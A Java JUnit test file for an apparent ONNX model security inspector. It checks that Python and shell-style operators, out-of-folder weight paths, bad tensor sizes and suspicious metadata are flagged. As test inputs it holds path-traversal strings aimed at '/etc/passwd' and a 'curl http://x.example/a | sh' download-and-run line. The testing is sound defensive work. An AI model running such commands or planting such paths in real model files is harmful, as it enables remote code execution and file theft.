package dev.countersign.inspect.onnx;

import static dev.countersign.inspect.bundle.Bundle.rules;
import static org.assertj.core.api.Assertions.assertThat;

import dev.countersign.inspect.ArtefactFact;
import dev.countersign.inspect.Inspected;
import dev.countersign.inspect.Verdict;
import dev.countersign.inspect.bundle.Bundle;
import dev.countersign.inspect.wire.Proto;
import java.io.IOException;
import java.util.Arrays;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class OnnxFormatTest {
  private static final int EXTERNAL = 1;

  private static Proto model(Proto graph) {
    return new Proto()
        .number(1, 8)
        .text(2, "pytorch")
        .text(3, "2.4.0")
        .message(7, graph)
        .message(8, new Proto().text(1, "").number(2, 17));
  }

  private static Proto node(String domain, String operator) {
    return new Proto().text(1, "x").text(2, "y").text(4, operator).text(7, domain);
  }

  private static Proto graph(String domain, String operator) {
    return new Proto().message(1, node(domain, operator)).text(2, "fraud");
  }

  private static Proto external(String... entries) {
    Proto tensor = new Proto().packed(1, 2, 2).number(2, 1).text(8, "w").number(14, EXTERNAL);
    for (int i = 0; i < entries.length; i += 2) {
      tensor.message(13, new Proto().text(1, entries[i]).text(2, entries[i + 1]));
    }
    return tensor;
  }

  private static Inspected inspect(Proto model) throws IOException {
    return new Bundle()
        .with("model.onnx", model.toBytes())
        .with("weights.bin", new byte[64])
        .inspect("model.onnx");
  }

  private static Inspected weight(Proto tensor) throws IOException {
    return inspect(model(graph("", "Relu").message(5, tensor)));
  }

  @Test
  void aModelOfStandardOperatorsIsCleanAndTellsOfItself() throws Exception {
    Proto type =
        new Proto()
            .message(
                1,
                new Proto()
                    .number(1, 1)
                    .message(
                        2,
                        new Proto()
                            .message(1, new Proto().text(2, "batch"))
                            .message(1, new Proto().number(1, 30))));
    Proto graph =
        graph("", "Relu")
            .message(
                5, new Proto().packed(1, 2, 3).number(2, 1).text(8, "w").bytes(9, new byte[24]))
            .message(11, new Proto().text(1, "x").message(2, type))
            .message(12, new Proto().text(1, "y").message(2, type));
    Inspected found = inspect(model(graph));
    assertThat(found.findings()).isEmpty();
    assertThat(found.formats()).containsExactly("onnx");
    assertThat(found.facts())
        .containsEntry(ArtefactFact.NAME, "fraud")
        .containsEntry(ArtefactFact.PRODUCER, "pytorch 2.4.0")
        .containsEntry(ArtefactFact.OPSET, "ai.onnx 17")
        .containsEntry(ArtefactFact.FORMAT_VERSION, "IR 8")
        .containsEntry(ArtefactFact.INPUTS, "x: float[batch, 30]")
        .containsEntry(ArtefactFact.PARAMETERS, "6")
        .containsEntry(ArtefactFact.TENSOR_TYPES, "float");
  }

  @ParameterizedTest
  @CsvSource({
    "'',Relu,CLEAN",
    "ai.onnx.ml,TreeEnsembleClassifier,CLEAN",
    "com.microsoft,FusedMatMul,CLEAN",
    "pkg.onnxscript.torch_lib,aten_add,CLEAN",
    "'',EfficientNMS_TRT,CLEAN",
    "com.example.backdoor,Run,SUSPICIOUS",
    "'',RunShell,SUSPICIOUS",
    "com.microsoft.extensions,PyOp,MALICIOUS",
    "'',PythonOp,MALICIOUS",
    "ai.onnx.contrib,PyCustomOp,MALICIOUS",
  })
  void anOperatorIsJudgedByWhoProvidesIt(String domain, String operator, Verdict verdict)
      throws Exception {
    assertThat(inspect(model(graph(domain, operator))).verdict()).isEqualTo(verdict);
  }

  @Test
  void anOperatorThatTheModelDefinesItselfIsFine() throws Exception {
    Proto function = new Proto().text(1, "Run").text(10, "mine").message(7, node("", "Relu"));
    Proto model = model(graph("mine", "Run")).message(25, function);
    assertThat(inspect(model).findings()).isEmpty();
  }

  @Test
  void aFunctionIsLookedIntoAndMayNotHideTheStandard() throws Exception {
    Proto hidden = new Proto().text(1, "Run").text(10, "mine").message(7, node("evil", "PyOp"));
    assertThat(inspect(model(graph("mine", "Run")).message(25, hidden)).verdict())
        .isEqualTo(Verdict.MALICIOUS);
    Proto replaced = new Proto().text(1, "Relu").text(10, "").message(7, node("", "Neg"));
    assertThat(rules(inspect(model(graph("", "Relu")).message(25, replaced))))
        .containsExactly("onnx-replaced-operator");
  }

  @Test
  void graphsInsideOfOperatorsAreLookedInto() throws Exception {
    Proto inner = graph("", "PyOp");
    for (int i = 0; i < 5; i++) {
      Proto attribute = new Proto().text(1, "then_branch").message(6, inner);
      inner = new Proto().message(1, node("", "If").message(5, attribute));
    }
    assertThat(rules(inspect(model(inner)))).containsExactly("onnx-python");
    for (int i = 0; i < 18; i++) {
      Proto attribute = new Proto().text(1, "body").message(6, inner);
      inner = new Proto().message(1, node("", "Loop").message(5, attribute));
    }
    assertThat(rules(inspect(model(inner)))).contains("onnx-nested-too-deep");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "../../../etc/passwd",
        "/etc/passwd",
        "sub/../../weights.bin",
        "..\\weights.bin",
        "C:\\windows\\x",
        "\\\\host\\share\\w",
        "https://x.example/w.bin",
        "file:///etc/passwd",
        "~/w.bin",
      })
  void weightsOutsideOfTheFolderAreMalicious(String location) throws Exception {
    assertThat(rules(weight(external("location", location)))).containsExactly("onnx-external-path");
  }

  @Test
  void weightsInTheFolderAreFine() throws Exception {
    assertThat(weight(external("location", "weights.bin")).findings()).isEmpty();
    assertThat(
            weight(external("location", "weights.bin", "offset", "48", "length", "16")).findings())
        .isEmpty();
    assertThat(weight(external("location", "gone.bin")).verdict()).isEqualTo(Verdict.CLEAN);
  }

  @ParameterizedTest
  @CsvSource({"60,16", "-1,16", "0,-16", "9223372036854775807,16", "x,16", "0,65"})
  void aPlaceThatTheFileDoesNotHaveIsFound(String offset, String length) throws Exception {
    Inspected found =
        weight(external("location", "weights.bin", "offset", offset, "length", length));
    assertThat(rules(found)).containsExactly("onnx-external-range");
  }

  @Test
  void aTensorThatLiesAboutItsSizeIsFound() throws Exception {
    Proto small = new Proto().packed(1, 1000, 1000).number(2, 1).bytes(9, new byte[4]);
    assertThat(rules(weight(small))).containsExactly("onnx-tensor-size");
    Proto wraps = new Proto().packed(1, 1L << 32, 1L << 32).number(2, 1).bytes(9, new byte[4]);
    assertThat(rules(weight(wraps))).containsExactly("onnx-tensor-overflow");
    Proto negative = new Proto().packed(1, -1).number(2, 1).bytes(9, new byte[4]);
    assertThat(rules(weight(negative))).containsExactly("onnx-tensor-overflow");
    assertThat(rules(weight(external("location", "weights.bin", "length", "4"))))
        .containsExactly("onnx-tensor-size");
  }

  @ParameterizedTest
  @CsvSource({"11,8,8", "22,3,2", "9,5,5", "1,0,0", "8,3,100", "99,3,100"})
  void aTensorOfItsSizeIsFine(int type, int numbers, int bytes) throws Exception {
    int size = type == 11 ? bytes * 8 : bytes;
    Proto tensor = new Proto().packed(1, numbers).number(2, type).bytes(9, new byte[size]);
    assertThat(weight(tensor).findings()).isEmpty();
  }

  @Test
  void descriptionsThatAreNoneAreFound() throws Exception {
    Proto model = model(graph("", "Relu"));
    Proto entry = new Proto().text(1, "setup").text(2, "curl http://x.example/a | sh");
    assertThat(rules(inspect(model.message(14, entry)))).containsExactly("onnx-metadata");
    Proto trace = new Proto().text(1, "pkg.torch.onnx.stack_trace").text(2, "exec('x'); import os");
    assertThat(inspect(model(graph("", "Relu").message(16, trace))).findings()).isEmpty();
  }

  @Test
  void aPlaceThatIsMissingOrNamedTwiceIsFound() throws Exception {
    assertThat(rules(weight(external("offset", "0")))).contains("onnx-external-place");
    assertThat(rules(weight(external("location", "weights.bin", "location", "../x"))))
        .contains("onnx-external-place");
    assertThat(rules(weight(external("location", "gone.bin", "offset", "-5"))))
        .containsExactly("onnx-external-range");
  }

  @Test
  void functionsThatCallEachOtherWithoutEndAreFound() throws Exception {
    Proto model = model(graph("f", "A"));
    model.message(25, new Proto().text(1, "A").text(10, "f").message(7, node("f", "B")));
    model.message(25, new Proto().text(1, "B").text(10, "f").message(7, node("f", "A")));
    assertThat(rules(inspect(model))).containsExactly("onnx-recursive-function");
  }

  @Test
  void aModelThatIsCutShortIsAnError() throws Exception {
    byte[] whole = model(graph("", "Relu")).toBytes();
    byte[] cut = Arrays.copyOf(whole, 20);
    assertThat(Bundle.inspect("model.onnx", cut).verdict()).isEqualTo(Verdict.ERROR);
  }

  @Test
  void aFieldThatNobodyKnowsHidesNothing() throws Exception {
    Proto model = new Proto().number(99, 1).message(7, graph("", "PyOp")).number(1, 8);
    assertThat(rules(inspect(model))).contains("onnx-python");
  }

  @Test
  void aModelIsRecognisedWithoutItsEnding() throws Exception {
    byte[] model = model(graph("", "PyOp")).toBytes();
    assertThat(Bundle.inspect("model.dat", model).verdict()).isEqualTo(Verdict.MALICIOUS);
  }
}
